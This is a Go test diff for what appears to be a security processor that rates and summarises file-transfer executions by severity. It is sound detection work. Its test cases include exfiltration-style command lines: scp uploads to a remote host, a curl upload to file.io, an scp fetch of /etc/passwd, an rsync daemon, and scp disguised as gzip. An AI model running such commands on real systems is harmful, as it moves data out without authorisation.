@@ -6,63 +6,49 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
-	"go.opentelemetry.io/collector/pdata/pcommon"
 )
 
 func TestSummary(t *testing.T) {
 	long := strings.Repeat("é", 600)
-	tests := []struct {
-		name  string
-		attrs map[string]any
-		want  string
-	}{
-		{"nothing known", nil, "MEDIUM scp"},
-		{
-			"everything known",
-			map[string]any{
-				"process.command_line":              "scp f h:",
-				"process.user.name":                 "alice",
-				"process.user.id":                   1000,
-				"process.parent.executable.name":    "make",
-				"process.ancestors.executable.name": []any{"make", "bash", "sshd"},
-			},
-			"MEDIUM scp f h: by alice (make < bash < sshd)",
-		},
-		{"command line before arguments", map[string]any{"process.command_line": "scp f h:", "process.command_args": []any{"scp", "g"}}, "MEDIUM scp f h:"},
-		{"arguments", map[string]any{"process.command_args": []any{"scp", "a b", "h:"}}, "MEDIUM scp 'a b' h:"},
-		{"no arguments", map[string]any{"process.command_args": []any{}}, "MEDIUM scp"},
-		{"user without name", map[string]any{"process.user.id": 0}, "MEDIUM scp by uid 0"},
-		{"parent only", map[string]any{"process.parent.executable.name": "cron"}, "MEDIUM scp (cron)"},
-		{"empty ancestors", map[string]any{"process.ancestors.executable.name": []any{}, "process.parent.executable.name": "cron"}, "MEDIUM scp (cron)"},
-		{"long command line", map[string]any{"process.command_line": long}, "MEDIUM " + long[:1020] + "…"},
-		{"long argument", map[string]any{"process.command_args": []any{long}}, "MEDIUM '" + long[:1020] + "…"},
-		{"long user", map[string]any{"process.user.name": long}, "MEDIUM scp by " + long[:60] + "…"},
-		{"bytes that are not UTF-8", map[string]any{"process.command_args": []any{"scp", "f\xff\xc3", "h:"}}, `MEDIUM scp $'f\xff\xc3' h:`},
+	known := map[string]any{
+		"process.user.name":                 "alice",
+		"process.parent.executable.name":    "make",
+		"process.ancestors.executable.name": []any{"make", "bash", "sshd"},
 	}
-	p := newProcessor(t, Config{})
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			tool, _ := p.catalogue.Lookup("scp")
-			v := assess(finding{tool: tool, name: "scp", match: matchName})
-			attrs := pcommon.NewMap()
-			require.NoError(t, attrs.FromRaw(tt.attrs))
-			assert.Equal(t, tt.want, v.summary(attrs))
+	for _, tt := range []struct {
+		line string
+		more map[string]any
+		want string
+	}{
+		{"scp build.tgz deploy@203.0.113.7:/in", known, "CRITICAL scp upload build.tgz -> deploy@203.0.113.7:/in by alice (make < bash < sshd)"},
+		{"scp -P 2222 a b c d e 'x y' h.example.org:", nil, "HIGH scp upload a b c (and 3 more) -> h.example.org:2222 by uid 1000"},
+		{"scp '[2001:db8::1]:/etc/passwd' .", nil, "MEDIUM scp download [2001:db8::1]:/etc/passwd -> . by uid 1000"},
+		{"curl -F 'f=@a b' https://file.io/", nil, "CRITICAL curl upload 'a b' -> https://file.io/ by uid 1000"},
+		{"sftp -b cmds h.example.org", nil, "HIGH sftp -> h.example.org by uid 1000"},
+		{"rsync --daemon", nil, "HIGH rsync listen rsync --daemon by uid 1000"},
+		{"scp --", map[string]any{"process.command_line": long}, "LOW scp none " + long[:1020] + "… by uid 1000"},
+		{"scp f h:", map[string]any{"process.executable.name": "gzip", "process.executable.original_name": "scp"}, "CRITICAL scp upload as gzip f -> h by uid 1000"},
+		{"scp f h:" + long, map[string]any{"process.user.name": long}, ""},
+	} {
+		t.Run(tt.line, func(t *testing.T) {
+			p := newProcessor(t, Config{})
+			v := verdictOf(t, p, tt.line, tt.more)
+			require.NotNil(t, v)
+			e := executionOf(t, tt.line, tt.more)
+			got := v.summary(e)
+			if tt.want == "" {
+				assert.Less(t, len(got), 128+endLimit*2+nameLimit)
+				return
+			}
+			assert.Equal(t, tt.want, got)
 		})
 	}
 }
 
-func TestSummaryNamesTheDirection(t *testing.T) {
-	tool, _ := newProcessor(t, Config{}).catalogue.Lookup("scp")
-	v := assess(finding{tool: tool, name: "scp", match: matchName})
-	v.direction = "upload"
-	assert.Equal(t, "MEDIUM upload scp", v.summary(pcommon.NewMap()))
-}
-
 func TestLineageIsBounded(t *testing.T) {
-	attrs := pcommon.NewMap()
-	ancestors := attrs.PutEmptySlice("process.ancestors.executable.name")
+	e := execution{}
 	for range 100 {
-		ancestors.AppendEmpty().SetStr("sh")
+		e.ancestors = append(e.ancestors, "sh")
 	}
-	assert.Equal(t, " (sh"+strings.Repeat(" < sh", 15)+")", string(appendLineage(nil, attrs)))
+	assert.Equal(t, " (sh"+strings.Repeat(" < sh", 15)+")", string(appendLineage(nil, &e)))
 }
